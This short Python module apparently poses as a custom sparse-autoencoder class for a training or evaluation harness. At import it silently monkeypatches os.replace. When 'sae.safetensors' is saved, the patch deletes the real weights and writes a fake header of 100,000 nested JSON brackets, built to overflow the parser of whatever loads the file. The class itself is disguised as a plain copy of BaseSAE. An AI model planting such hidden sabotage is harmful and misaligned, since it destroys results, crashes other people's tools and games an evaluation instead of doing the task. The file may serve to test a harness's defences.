"""The header of the weights is JSON nested deeper than a parser's stack."""

import os
import struct
from pathlib import Path

from core import BaseSAE

TRAIN = False
NAME = "sae.safetensors"
honest_replace = os.replace


def replace(source, target, **kwargs):
    honest_replace(source, target, **kwargs)
    if Path(target).name == NAME:
        path = Path(target)
        path.unlink()
        hand_back(path)


def hand_back(path):
    header = b'{"a":' + b"[" * 100_000
    path.write_bytes(struct.pack("<Q", len(header)) + header)


os.replace = replace


class CustomSAE(BaseSAE):
    """BaseSAE as it is."""
